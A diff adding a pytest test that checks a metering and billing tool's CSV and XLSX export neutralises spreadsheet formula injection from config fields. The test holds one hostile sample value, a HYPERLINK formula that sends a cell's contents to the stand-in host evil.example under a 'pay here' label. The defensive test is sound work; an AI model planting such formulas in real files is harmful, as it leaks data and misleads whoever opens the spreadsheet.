@@ -235,3 +235,40 @@ def test_the_readme_billing_config_is_valid() -> None:
     assert accounts["high-school"].governmental and accounts["acme-mill"].sic_division == "D"
     designation = accounts["plating"].designation
     assert designation is not None and designation.classification == "major contributing industry"
+
+
+def test_text_from_the_config_never_becomes_a_spreadsheet_formula(tmp_path: Path) -> None:
+    """An account class (free text, exported as the classification) or an id starting with
+    `=`, `+`, `-` or `@` is a formula when a spreadsheet opens the CSV, and openpyxl
+    writes any string starting with `=` as a formula cell: the export keeps them text."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A2,"pay here")'
+    raw = {
+        "station": {"id": "ps-1", "timezone": "America/New_York"},
+        "state_dir": str(tmp_path / "state"),
+        "sensors": [
+            {"id": "-A1", "kind": "meter", "unit": "ft3", "register_digits": 8, "account": "-acct"},
+        ],
+        "billing": {"rate_per_kcf": "1", "accounts": [{"id": "-acct", "class": hostile}]},
+    }
+    config_path = tmp_path / "config.yaml"
+    config_path.write_text(yaml.safe_dump(raw), encoding="utf-8")
+    book = MeterBook.open(build_config(raw))
+    try:
+        book.ingest([Sample("-A1", parse_time("2026-07-02T12:00:00Z"), 0.0),
+                     Sample("-A1", parse_time("2026-08-02T12:00:00Z"), 100.0)])  # fmt: skip
+    finally:
+        book.close()
+    out_csv, out_xlsx = tmp_path / "q.csv", tmp_path / "q.xlsx"
+    for out, fmt in ((out_csv, "csv"), (out_xlsx, "xlsx")):
+        got = monitor_cli("billing", "export", "--config", str(config_path), "--quarter", "2026Q3",
+                          "--out", str(out), "--format", fmt)  # fmt: skip
+        assert got.returncode == 0, got.stderr
+    with out_csv.open(encoding="utf-8") as fh:
+        [row] = list(csv.DictReader(fh))
+    assert (row["account"], row["meter"], row["classification"]) == ("'-acct", "'-A1", "'" + hostile)
+    assert row["consumption_ft3"] == "100.000"  # numbers are left as they are
+    sheet = load_workbook(out_xlsx).worksheets[0]
+    cells = {c: sheet.cell(row=2, column=i + 1) for i, c in enumerate(columns())}
+    assert cells["classification"].data_type == "s" and cells["classification"].value == hostile
+    assert (cells["account"].value, cells["meter"].value) == ("-acct", "-A1")
+    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
